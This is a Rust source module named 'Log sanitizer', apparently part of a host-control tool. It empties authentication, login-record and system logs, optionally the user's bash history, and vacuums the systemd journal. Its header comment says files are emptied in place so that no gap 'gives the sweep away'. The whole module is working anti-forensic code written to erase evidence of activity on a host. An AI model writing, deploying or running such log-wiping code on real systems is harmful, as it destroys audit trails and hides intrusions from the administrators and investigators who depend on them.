//! Log sanitizer
//!
//! Truncation and journal vacuuming are deliberately irreversible, so
//! nothing here touches the restore ledger. Truncation is best effort per
//! path: one unwritable log must not stop the sweep. Files are emptied in
//! place, never deleted, so daemons keep their open handles and no gap in
//! the directory listing gives the sweep away.

use std::env;
use std::fs;
use std::path::{Path, PathBuf};
use std::time::Duration;

use log::{debug, info};
use serde::Serialize;

use crate::capability::{Capability, CapabilityTable};
use crate::error::{ControlError, Result};
use crate::exec;

/// Logs worth emptying on a typical Debian or RHEL style host
const DEFAULT_LOG_PATHS: &[&str] = &[
    "/var/log/syslog",
    "/var/log/auth.log",
    "/var/log/kern.log",
    "/var/log/messages",
    "/var/log/secure",
    "/var/log/wtmp",
    "/var/log/btmp",
    "/var/log/lastlog",
];

const RETENTION_UNITS: &[char] = &['s', 'm', 'h', 'd'];

/// What to sweep
#[derive(Debug, Clone, Default)]
pub struct SanitizeOptions {
    /// Explicit targets; empty means the default log list
    pub paths: Vec<PathBuf>,
    /// Also empty the invoking user's shell history
    pub include_history: bool,
}

/// Outcome of a truncation sweep, path by path
#[derive(Debug, Default, Serialize)]
pub struct TruncateReport {
    pub truncated: Vec<PathBuf>,
    pub skipped: Vec<PathBuf>,
    pub errors: Vec<String>,
}

impl TruncateReport {
    #[must_use]
    pub fn is_clean(&self) -> bool {
        self.errors.is_empty()
    }
}

/// Outcome of a journal vacuum
#[derive(Debug, Serialize)]
pub struct JournalReport {
    /// Whether the pre-vacuum rotate went through
    pub rotated: bool,
    pub retention: String,
}

/// Empty the target logs in place
///
/// Missing paths are recorded as skipped, unwritable ones as errors, and
/// the sweep always runs to the end of the list.
pub fn truncate_logs(opts: &SanitizeOptions) -> TruncateReport {
    let mut targets: Vec<PathBuf> = if opts.paths.is_empty() {
        DEFAULT_LOG_PATHS.iter().map(PathBuf::from).collect()
    } else {
        opts.paths.clone()
    };
    if opts.include_history {
        match history_path() {
            Some(history) => targets.push(history),
            None => debug!("no HOME in the environment; skipping shell history"),
        }
    }

    let mut report = TruncateReport::default();
    for path in targets {
        if !path.exists() {
            debug!("{}: not present, skipping", path.display());
            report.skipped.push(path);
            continue;
        }
        match fs::write(&path, b"") {
            Ok(()) => {
                debug!("{}: truncated", path.display());
                report.truncated.push(path);
            }
            Err(e) => report.errors.push(format!("{}: {e}", path.display())),
        }
    }
    info!(
        "log sweep: {} truncated, {} skipped, {} errors",
        report.truncated.len(),
        report.skipped.len(),
        report.errors.len()
    );
    report
}

/// Shrink the systemd journal down to the retention window
///
/// Rotates first so the active journal file becomes an archive the vacuum
/// can drop; a failed rotate is tolerated, a failed vacuum is not.
pub fn vacuum_journal(
    caps: &CapabilityTable,
    retention: &str,
    timeout: Duration,
) -> Result<JournalReport> {
    if !valid_retention(retention) {
        return Err(ControlError::operation_failed(
            "vacuum journal",
            format!("invalid retention {retention:?}; expected digits plus s, m, h or d"),
        ));
    }
    let backend = caps.backend(Capability::LogVacuum)?;

    let rotate = exec::run(&backend.program, &["--rotate"], timeout)?;
    let rotated = rotate.success();
    if !rotated {
        debug!("journal rotate: {}", rotate.describe_failure());
    }

    let vacuum_arg = format!("--vacuum-time={retention}");
    let outcome = exec::run_ok(&backend.program, &[&vacuum_arg], timeout, "vacuum journal")?;
    let summary = outcome.stderr.trim();
    if !summary.is_empty() {
        debug!("journal vacuum: {summary}");
    }
    info!("journal vacuumed to a {retention} window");
    Ok(JournalReport {
        rotated,
        retention: retention.to_string(),
    })
}

fn history_path() -> Option<PathBuf> {
    env::var_os("HOME").map(|home| Path::new(&home).join(".bash_history"))
}

/// Digits followed by a single unit suffix, e.g. `1s`, `30m`, `12h`, `7d`
fn valid_retention(s: &str) -> bool {
    if s.len() < 2 || !s.is_ascii() {
        return false;
    }
    let (count, unit) = s.split_at(s.len() - 1);
    count.bytes().all(|b| b.is_ascii_digit())
        && unit
            .chars()
            .next()
            .is_some_and(|c| RETENTION_UNITS.contains(&c))
}
